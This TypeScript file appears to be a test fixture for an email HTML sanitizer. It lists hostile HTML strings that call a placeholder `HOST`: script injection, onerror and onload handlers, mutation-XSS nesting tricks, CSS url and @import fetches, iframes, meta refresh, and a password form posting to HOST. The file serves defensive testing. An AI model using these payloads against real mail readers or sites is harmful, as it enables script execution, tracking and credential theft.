// HTML that has been used against readers of mail. `HOST` is where each of them would call if it could.
export const HOSTILE: readonly string[] = [
  '<script src="HOST/1.js"></script><script>fetch("HOST/2")</script>',
  '<img src="HOST/3.png" onerror="fetch(\'HOST/4\')" srcset="HOST/5.png 2x">',
  '<img src="x" onerror=fetch("HOST/6")>',
  '<svg onload="fetch(\'HOST/7\')"><image href="HOST/8.png"/><use href="HOST/9.svg#a"/><script>fetch("HOST/10")</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch(`HOST/11`)&gt;"></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=fetch(`HOST/12`)>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=fetch(`HOST/13`)></style></mglyph></form></mtext></math>',
  '<template><img src="HOST/14.png"></template><xmp><img src="HOST/15.png"></xmp><plaintext>',
]
/** Everything that is not put behind `<plaintext>`, which swallows the rest of a page. */
export const HOSTILE_STYLES: readonly string[] = [
  '<style>@import url("HOST/20.css"); body{background:url(HOST/21.png)} @font-face{font-family:x;src:url(HOST/22.woff)}</style>',
  '<p style="background:url(HOST/23.png)">a</p><p style="background-image:image-set(\'HOST/24.png\' 1x)">b</p>',
  '<p style="width:expression(fetch(\'HOST/25\'))">c</p><p style="behavior:url(HOST/26.htc);-moz-binding:url(HOST/27.xml#x)">d</p>',
  '<p style="background:u\\72l(HOST/28.png)">e</p><p style="color:red;list-style:url(HOST/29.png)">f</p>',
  '<p style="content:url(HOST/30.png);cursor:url(HOST/31.cur),auto">g</p><p style="position:fixed;top:0;left:0;width:9999px;height:9999px">cover</p>',
  '<table background="HOST/32.png"><tr><td background="HOST/33.png">h</td></tr></table><body background="HOST/34.png">',
  '<link rel="stylesheet" href="HOST/35.css"><link rel="prefetch" href="HOST/36"><link rel="dns-prefetch" href="HOST/37">',
  '<meta http-equiv="refresh" content="0;url=HOST/38"><base href="HOST/39/"><img src="relative.png">',
  '<iframe src="HOST/40"></iframe><object data="HOST/41"></object><embed src="HOST/42"><frameset><frame src="HOST/43"></frameset>',
  '<video src="HOST/44" poster="HOST/45" autoplay></video><audio src="HOST/46" autoplay></audio><source srcset="HOST/47">',
  '<form action="HOST/48" id="f"><input name="password" autofocus><button formaction="HOST/49">go</button></form><input type="image" src="HOST/50.png">',
  '<a href="javascript:fetch(\'HOST/51\')">x</a><a href="HOST/52" ping="HOST/53">link</a><a href="data:text/html,<script>fetch(`HOST/54`)</script>">d</a>',
  '<img src="data:image/svg+xml,<svg onload=fetch(`HOST/55`)>"><img src="//HOSTNAME/56.png"><img src="cid:none"><img src="\\\\HOSTNAME\\57.png">',
  '<picture><source srcset="HOST/58.png"><img src="HOST/59.png" loading="eager"></picture><img lowsrc="HOST/60.png" dynsrc="HOST/61.avi">',
  '<div style="color:red/*"><img src=x */onerror=fetch("HOST/62")>"></div><details open ontoggle=fetch("HOST/63")>',
  '<portal src="HOST/64"></portal><marquee onstart=fetch("HOST/65")>m</marquee><isindex action="HOST/66">',
]
